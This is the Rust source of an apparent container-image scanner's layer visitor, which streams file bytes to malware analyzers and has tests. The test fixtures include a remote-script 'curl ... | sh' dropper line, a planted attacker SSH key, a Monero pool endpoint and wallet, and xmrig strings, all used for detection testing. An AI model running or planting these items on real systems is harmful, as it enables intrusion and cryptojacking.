//! The per-layer visitor: reads each file's bytes ONCE, in chunks of [`CHUNK`] bytes, and
//! feeds every analyzer that asked for them. Nested archives (`archive.rs`) are opened from
//! the same stream: the outer file's analyzers keep seeing its raw bytes while the inner
//! entries go through a second analyzer set (one set per nesting depth, so no analyzer is
//! ever fed two files at once).

use super::binary::BinaryAnalyzer;
use super::content::ContentAnalyzer;
use super::name::NameAnalyzer;
use super::offload::Offload;
use super::script::ScriptAnalyzer;
use super::wallet::WalletAnalyzer;
use super::{read_full, Analyzer, FileCtx, Signal};
use crate::image::FileEntry;
use crate::limits::{LimitHit, Limits};
use crate::signatures::Signatures;
use serde::Serialize;
use std::io::Read;
use std::sync::Arc;

/// Bytes read from a file per chunk.
pub const CHUNK: usize = 256 << 10;
/// Bytes of the head kept for `file_end` (text/binary sniffing).
pub(crate) const HEAD_KEEP: usize = 8192;

/// Everything one layer's files produced.
#[derive(Debug, Default, Clone, Serialize)]
pub struct LayerScan {
    pub signals: Vec<Signal>,
    /// Bounds reached by the analyzers (nesting depth, nested archive sizes).
    pub limits: Vec<LimitHit>,
    /// Regular files whose content was read, and how many bytes.
    pub files: u64,
    pub bytes: u64,
    /// Analyzers that could not finish (makes the scan incomplete).
    pub errors: Vec<String>,
    /// What the analyzers learned besides signals (digests, scripts, ...).
    pub facts: super::LayerFacts,
}

/// Signals kept per layer at most. Each file contributes at most one signal per
/// signature, but a hostile layer of a million files each holding every signature must
/// not exhaust memory: past this the scan is reported incomplete.
pub const MAX_SIGNALS_PER_LAYER: usize = 200_000;

fn push_capped(scan: &mut LayerScan, signals: impl IntoIterator<Item = Signal>) {
    for s in signals {
        if scan.signals.len() >= MAX_SIGNALS_PER_LAYER {
            if !scan.errors.iter().any(|e| e.starts_with("signal limit")) {
                scan.errors.push(format!(
                    "signal limit: more than {MAX_SIGNALS_PER_LAYER} signals in one layer; later ones were dropped"
                ));
            }
            return;
        }
        scan.signals.push(s);
    }
}

/// The file analyzers, with per-file state; one set per nesting depth.
pub(crate) struct AnalyzerSet {
    analyzers: Vec<Box<dyn Analyzer>>,
    wants: Vec<bool>,
}

impl AnalyzerSet {
    /// `threaded`: run the analyzers that read file bytes (content, wallet, binary) on their
    /// own thread, and the `--yara` rules on another (depth 0 only: nested archives are
    /// rare and small next to the layer itself).
    /// `depth`, `nesting`: the depth of the files it sees and `limits.nesting`.
    fn new(sigs: &Arc<Signatures>, threaded: bool, depth: usize, nesting: u32) -> Self {
        let streaming = || -> Vec<Box<dyn Analyzer>> {
            vec![
                Box::new(ContentAnalyzer::new(Arc::clone(sigs))),
                Box::new(WalletAnalyzer::new(Arc::clone(sigs))),
                Box::new(BinaryAnalyzer::default()),
                Box::new(ScriptAnalyzer::new(Arc::clone(sigs))),
                Box::new(super::hash::HashAnalyzer::new(Arc::clone(sigs))),
            ]
        };
        // `--yara` rules: threaded, on a worker of their own beside the content one, so
        // the two cores share inflate, matching and YARA however their costs fall.
        let yara = || -> Vec<Box<dyn Analyzer>> {
            #[cfg(feature = "yara")]
            if let Some(y) = &sigs.yara {
                return vec![Box::new(super::yara::YaraAnalyzer::new(
                    Arc::clone(y),
                    depth,
                    nesting,
                ))];
            }
            let _ = (depth, nesting);
            Vec::new()
        };
        let mut analyzers: Vec<Box<dyn Analyzer>> = vec![
            Box::new(NameAnalyzer::new(Arc::clone(sigs))),
            Box::new(super::pkgcapture::PkgDbCapture::default()),
            Box::new(super::planted::PlantedAnalyzer),
        ];
        type Make<'a> = &'a dyn Fn() -> Vec<Box<dyn Analyzer>>;
        let sets: [(&str, Make); 2] = [("content", &streaming), ("yara", &yara)];
        for (name, make) in sets {
            let set = make();
            if set.is_empty() {
                continue;
            }
            if !threaded {
                analyzers.extend(set);
                continue;
            }
            match Offload::spawn(name, set) {
                Some(o) => analyzers.push(Box::new(o)),
                // No thread: the analyzers went with the failed spawn; run new ones inline.
                None => analyzers.extend(make()),
            }
        }
        let wants = vec![false; analyzers.len()];
        AnalyzerSet { analyzers, wants }
    }
    fn start(&mut self, ctx: &FileCtx) -> bool {
        let mut any = false;
        for (a, w) in self.analyzers.iter_mut().zip(self.wants.iter_mut()) {
            *w = a.file_start(ctx);
            any |= *w;
        }
        any
    }
    pub(crate) fn chunk(&mut self, data: &[u8], offset: u64) {
        for (a, &w) in self.analyzers.iter_mut().zip(&self.wants) {
            if w {
                a.file_chunk(data, offset);
            }
        }
    }
    /// `buf[..len]` to every analyzer that wants it; the last one may keep `buf` (see
    /// [`Analyzer::file_chunk_owned`]), so its content is gone afterwards.
    fn chunk_owned(&mut self, buf: &mut Vec<u8>, len: usize, offset: u64) {
        let last = self.wants.iter().rposition(|&w| w);
        for (i, (a, &w)) in self.analyzers.iter_mut().zip(&self.wants).enumerate() {
            if Some(i) == last {
                a.file_chunk_owned(buf, len, offset);
            } else if w {
                a.file_chunk(&buf[..len], offset);
            }
        }
    }
    fn end(&mut self, ctx: &FileCtx, truncated: bool, out: &mut Vec<Signal>) {
        for a in self.analyzers.iter_mut() {
            a.file_end(ctx, truncated, out);
        }
    }
}

/// The visitor the walker drives for one layer.
pub struct ScanVisitor {
    pub(crate) sigs: Arc<Signatures>,
    pub(crate) limits: Limits,
    pub(crate) sets: Vec<Option<AnalyzerSet>>,
    bufs: Vec<Vec<u8>>,
    threaded: bool,
    pub scan: LayerScan,
}

impl ScanVisitor {
    pub fn new(sigs: Arc<Signatures>, limits: &Limits) -> Self {
        let depth = limits.nesting as usize + 1;
        ScanVisitor {
            sigs,
            limits: *limits,
            sets: (0..depth).map(|_| None).collect(),
            bufs: (0..depth).map(|_| Vec::new()).collect(),
            threaded: false,
            scan: LayerScan::default(),
        }
    }

    /// Run the content, wallet and binary analyzers of top-level files on a second thread (see
    /// [`Offload`]); call [`ScanVisitor::finish`] after the walk.
    pub fn threaded(mut self) -> Self {
        self.threaded = true;
        self
    }

    /// After the last entry: collect what asynchronous analyzers found. Idempotent.
    pub fn finish(&mut self) {
        for set in self.sets.iter_mut().flatten() {
            for a in set.analyzers.iter_mut() {
                match a.finish() {
                    Ok(s) => push_capped(&mut self.scan, s),
                    Err(e) => self.scan.errors.push(format!("{}: {e}", a.name())),
                }
                a.facts(&mut self.scan.facts);
            }
        }
    }

    /// Visit one entry of the layer (what `EntryVisitor::visit` does).
    pub fn visit_entry(
        &mut self,
        entry: &FileEntry,
        content: &mut dyn Read,
    ) -> std::io::Result<()> {
        self.visit_file(entry, &[], content, 0)
    }

    /// Visit one entry at nesting `depth` (0 = directly in a layer).
    pub(crate) fn visit_file(
        &mut self,
        entry: &FileEntry,
        inside: &[String],
        content: &mut dyn Read,
        depth: usize,
    ) -> std::io::Result<()> {
        let mut set = self.sets[depth].take().unwrap_or_else(|| {
            let threaded = depth == 0 && self.threaded;
            AnalyzerSet::new(&self.sigs, threaded, depth, self.limits.nesting)
        });
        let mut buf = std::mem::take(&mut self.bufs[depth]);
        buf.resize(CHUNK, 0);
        let r = self.visit_with(&mut set, &mut buf, entry, inside, content, depth);
        self.sets[depth] = Some(set);
        self.bufs[depth] = buf;
        r
    }

    fn visit_with(
        &mut self,
        set: &mut AnalyzerSet,
        buf: &mut Vec<u8>,
        entry: &FileEntry,
        inside: &[String],
        content: &mut dyn Read,
        depth: usize,
    ) -> std::io::Result<()> {
        let is_file = entry.kind == crate::image::EntryKind::File;
        let n = if is_file {
            read_full(content, &mut buf[..CHUNK])?
        } else {
            0
        };
        // The head for `file_end`: `buf` itself for a small file (the common case), which
        // no analyzer takes (`Offload` keeps only chunks of `OWNED_MIN` bytes or more) and
        // no later read overwrites; else this copy.
        let nested = if is_file && n > 0 {
            super::archive::detect(&entry.path, &buf[..n])
        } else {
            None
        };
        let head_ptr = buf.as_ptr();
        let copy_head = n >= super::offload::OWNED_MIN || nested.is_some();
        let head_copy = if copy_head {
            buf[..n.min(HEAD_KEEP)].to_vec()
        } else {
            Vec::new()
        };
        let ctx = FileCtx {
            entry,
            inside,
            head: &buf[..n],
        };
        let wants = set.start(&ctx);
        let mut total = n as u64;
        // The nested reader needs the head again; the analyzers may take `buf` itself.
        let nested_head = match nested {
            Some(_) if depth < self.limits.nesting as usize => buf[..n].to_vec(),
            _ => Vec::new(),
        };
        let more = n == CHUNK;
        if wants && n > 0 {
            set.chunk_owned(buf, n, 0);
        }
        let mut out = Vec::new();
        match nested {
            Some(kind) if depth < self.limits.nesting as usize => {
                total += self.nested(
                    kind,
                    set,
                    entry,
                    inside,
                    &nested_head,
                    content,
                    depth,
                    &mut out,
                )?;
            }
            Some(_) => {
                self.scan.limits.push(LimitHit {
                    kind: crate::limits::LimitKind::Nesting,
                    limit: self.limits.nesting as u64,
                    layer: Some(entry.layer),
                    path: Some(display_path(inside, &entry.path)),
                    detail: format!(
                        "archive {} is nested deeper than {} levels; its entries were not opened",
                        display_path(inside, &entry.path),
                        self.limits.nesting
                    ),
                });
                total += self.pump(set, buf, content, n as u64, wants)?;
            }
            None if more => total += self.pump(set, buf, content, n as u64, wants)?,
            None => {}
        }
        if is_file {
            self.scan.files += 1;
            self.scan.bytes += total;
        }
        let head_keep = if copy_head {
            &head_copy[..]
        } else {
            debug_assert_eq!(buf.as_ptr(), head_ptr, "a small file's buffer was taken");
            &buf[..n.min(HEAD_KEEP)]
        };
        let ctx = FileCtx {
            entry,
            inside,
            head: head_keep,
        };
        set.end(&ctx, total < entry.size, &mut out);
        // Facts that mean nothing alone (an ordinary ELF) are dropped here, unless the
        // streaming analyzers run on their own thread and may still add to this file.
        if self.threaded && depth == 0 || out.iter().any(|s| !s.kind.informational()) {
            push_capped(&mut self.scan, out);
        }
        Ok(())
    }

    /// Read the rest of `content` in chunks and feed `set`; returns the bytes read.
    fn pump(
        &mut self,
        set: &mut AnalyzerSet,
        buf: &mut Vec<u8>,
        content: &mut dyn Read,
        mut offset: u64,
        wants: bool,
    ) -> std::io::Result<u64> {
        let start = offset;
        loop {
            let k = read_full(content, &mut buf[..CHUNK])?;
            if k == 0 {
                break;
            }
            if wants {
                set.chunk_owned(buf, k, offset);
            }
            offset += k as u64;
            if k < CHUNK {
                break;
            }
        }
        Ok(offset - start)
    }
}

impl crate::layers::EntryVisitor for ScanVisitor {
    fn visit(&mut self, entry: &FileEntry, content: &mut dyn Read) -> std::io::Result<()> {
        self.visit_entry(entry, content)
    }
}

/// `a.tar.gz!dir/file` style display of a nested path.
pub fn display_path(inside: &[String], path: &str) -> String {
    let mut s = String::new();
    for i in inside {
        s.push_str(i);
        s.push('!');
    }
    s.push_str(path);
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyzers::{collate, Subject};
    use crate::findings::{Location, Severity};
    use crate::image::EntryKind;
    use imgscan_testkit::{
        clean_layers, compress, layer_tar, malicious_layers, tiny_elf, Comp, Ent,
    };

    /// Drive the visitor over a tar the way the walker does.
    fn scan_layer(entries: &[Ent], limits: &Limits) -> LayerScan {
        scan_layer_with(entries, limits, false)
    }

    fn scan_layer_with(entries: &[Ent], limits: &Limits, threaded: bool) -> LayerScan {
        let tar = layer_tar(entries);
        let mut v = ScanVisitor::new(Arc::new(Signatures::embedded().unwrap()), limits);
        if threaded {
            v = v.threaded();
        }
        let mut ar = tar::Archive::new(tar.as_slice());
        for e in ar.entries().unwrap() {
            let mut e = e.unwrap();
            let kind = match e.header().entry_type() {
                tar::EntryType::Regular => EntryKind::File,
                tar::EntryType::Directory => EntryKind::Dir,
                _ => EntryKind::Other,
            };
            let fe = FileEntry {
                layer: 1,
                layer_digest: "sha256:l1".into(),
                path: e.path().unwrap().to_string_lossy().into_owned(),
                kind,
                mode: e.header().mode().unwrap(),
                size: e.header().size().unwrap(),
                link_target: None,
                hidden_by: None,
            };
            v.visit_entry(&fe, &mut e).unwrap();
        }
        v.finish();
        v.scan
    }

    #[test]
    fn threaded_content_matching_gives_the_same_findings() {
        let mut layer = malicious_layers()[1].clone();
        // One file large enough to go to the matching thread, with a hit past 1 MiB.
        let mut big = vec![b'a'; (1 << 20) + 5000];
        big.extend_from_slice(b"\nstratum+tcp://pool.minexmr.com:4444\n");
        layer.push(Ent::file("var/lib/big.log", big));
        // A wallet (run on the same thread as content) split across the first chunk's end.
        let wallet = b"43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR";
        let mut split = vec![b' '; CHUNK - 40];
        split.extend_from_slice(wallet);
        split.extend_from_slice(b"\n");
        layer.push(Ent::file("srv/notes.txt", split));
        let one = scan_layer_with(&layer, &Limits::default(), false);
        let two = scan_layer_with(&layer, &Limits::default(), true);
        assert_eq!(ids(&one), ids(&two));
        assert!(ids(&one)
            .iter()
            .any(|f| f.0 == "var/lib/big.log" && f.1 == "IMG-POOL-ENDPOINT"));
        for scan in [&one, &two] {
            let w: Vec<_> = scan
                .signals
                .iter()
                .filter(
                    |s| matches!(&s.subject, Subject::File { path, .. } if path == "srv/notes.txt"),
                )
                .map(|s| (s.signature.as_str(), s.offset))
                .collect();
            assert_eq!(w, [("wallet:monero-standard", Some(CHUNK as u64 - 40))]);
        }
    }

    /// Many files of every size class (empty, small and copied, large and handed over
    /// whole, several chunks), signatures at random places (across chunk ends too), ELF
    /// and text mixed: the threaded path must report exactly the signals, at exactly the
    /// offsets, of the single-threaded one. Catches any reordering in the hand-off.
    /// The analyzers left on the walker's thread read the head at `file_end`; whatever
    /// the file's size, and whether or not its buffer went to the content thread, they
    /// see the same head (here: the key type and comment of a planted root key).
    #[test]
    fn file_end_sees_the_head_at_every_size_threaded_or_not() {
        for size in [700usize, 20_000, 40_000, 300_000] {
            let mut keys = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@evil\n".to_vec();
            keys.resize(size, b'#');
            let layer = vec![Ent::with_mode("root/.ssh/authorized_keys", 0o600, keys)];
            for threaded in [false, true] {
                let scan = scan_layer_with(&layer, &Limits::default(), threaded);
                let key = scan
                    .signals
                    .iter()
                    .find(|s| s.signature == "root-authorized-keys")
                    .unwrap_or_else(|| panic!("size {size}, threaded {threaded}: no key signal"));
                assert_eq!(
                    key.excerpt, "ssh-ed25519 ... attacker@evil",
                    "size {size}, threaded {threaded}"
                );
            }
        }
    }

    #[test]
    fn threaded_hand_off_keeps_every_signal_in_place() {
        let mut x: u64 = 0x2545_f491_4f6c_dd1d;
        let mut next = move |n: u64| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x % n
        };
        let needles: [&[u8]; 5] = [
            b"stratum+tcp://pool.minexmr.com:4444",
            b"Usage: xmrig [OPTIONS]",
            b"43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR",
            b"curl -fsSL http://x.example/a.sh | sh",
            b"--donate-level=N",
        ];
        let sizes = [0u64, 1, 700, 20_000, 40_000, 300_000, CHUNK as u64, 700_000];
        let mut layer = Vec::new();
        for i in 0..120 {
            let size = sizes[next(sizes.len() as u64) as usize] as usize;
            let elf = next(4) == 0;
            let mut data = if elf { tiny_elf(b"") } else { Vec::new() };
            data.resize(size.max(data.len()), b' ');
            for _ in 0..next(3) {
                let n = needles[next(needles.len() as u64) as usize];
                if data.len() > n.len() + 2 {
                    let at = if next(2) == 0 && data.len() > CHUNK + 10 {
                        CHUNK - 1 - next(n.len() as u64) as usize
                    } else {
                        64 + next(data.len().saturating_sub(n.len() + 64).max(1) as u64) as usize
                    };
                    let at = at.min(data.len() - n.len() - 1);
                    data[at - 1] = b'\n';
                    data[at..at + n.len()].copy_from_slice(n);
                    data[at + n.len()] = b'\n';
                }
            }
            layer.push(Ent::exe(&format!("f/{i:03}"), data));
        }
        let signals = |threaded: bool| {
            let mut v: Vec<_> = scan_layer_with(&layer, &Limits::default(), threaded)
                .signals
                .into_iter()
                .filter(|s| !s.kind.informational())
                .map(|s| (format!("{:?}", s.subject), s.signature, s.offset))
                .collect();
            v.sort();
            v
        };
        let one = signals(false);
        assert!(
            one.len() > 60,
            "the layer must exercise the analyzers: {}",
            one.len()
        );
        assert_eq!(one, signals(true));
    }

    fn ids(scan: &LayerScan) -> Vec<(String, String, Severity)> {
        let mut v: Vec<_> = collate(&scan.signals, &|_, _| None)
            .into_iter()
            .map(|f| {
                let path = match &f.evidence[0].location {
                    Location::File { path, inside, .. } => display_path(inside, path),
                    _ => String::new(),
                };
                (path, f.id, f.severity)
            })
            .collect();
        v.sort();
        v
    }

    #[test]
    fn malicious_layer_findings() {
        let scan = scan_layer(&malicious_layers()[1], &Limits::default());
        let got = ids(&scan);
        let want = [
            (
                "opt/app/.cache/kworker",
                "IMG-MINER-BINARY",
                Severity::Critical,
            ),
            (
                "opt/app/config.json",
                "IMG-MINER-CONFIG",
                Severity::Critical,
            ),
            ("opt/app/run.sh", "IMG-DROPPER", Severity::Critical),
            ("opt/app/sync.sh", "IMG-CRED-THEFT", Severity::High),
            (
                "opt/bundle/xmrig-6.21.0-linux-x64.tar.gz!xmrig-6.21.0/xmrig",
                "IMG-MINER-BINARY",
                Severity::Critical,
            ),
            ("tmp/kdevtmpfsi", "IMG-MINER-BINARY", Severity::Critical),
            ("usr/local/bin/xmrig", "IMG-MINER-BINARY", Severity::High),
        ];
        let want: Vec<_> = want
            .iter()
            .map(|(p, i, s)| (p.to_string(), i.to_string(), *s))
            .collect();
        assert_eq!(got, want);
        assert!(scan.limits.is_empty());
    }

    #[test]
    fn clean_layer_has_no_findings() {
        let scan = scan_layer(&clean_layers()[0], &Limits::default());
        assert_eq!(ids(&scan), vec![]);
        assert!(scan.files >= 4);
    }

    #[test]
    fn nesting_bound_is_reported() {
        let inner = compress(
            &layer_tar(&[Ent::exe("m/xmrig", "#!/bin/sh\n")]),
            Comp::Gzip,
        );
        let limits = Limits {
            nesting: 0,
            ..Limits::default()
        };
        let scan = scan_layer(&[Ent::file("a.tgz", inner)], &limits);
        assert_eq!(scan.limits.len(), 1);
        assert_eq!(scan.limits[0].kind, crate::limits::LimitKind::Nesting);
        assert!(ids(&scan).is_empty());
    }

    #[test]
    fn nested_size_bound_is_reported() {
        let big = vec![b'a'; 300_000];
        let inner = compress(
            &layer_tar(&[Ent::file("big", big), Ent::exe("m/xmrig", "x")]),
            Comp::Gzip,
        );
        let limits = Limits {
            file_bytes: 100_000,
            ..Limits::default()
        };
        let scan = scan_layer(&[Ent::file("a.tar.gz", inner)], &limits);
        assert_eq!(scan.limits.len(), 1, "{:?}", scan.limits);
        assert_eq!(scan.limits[0].kind, crate::limits::LimitKind::FileBytes);
    }
}
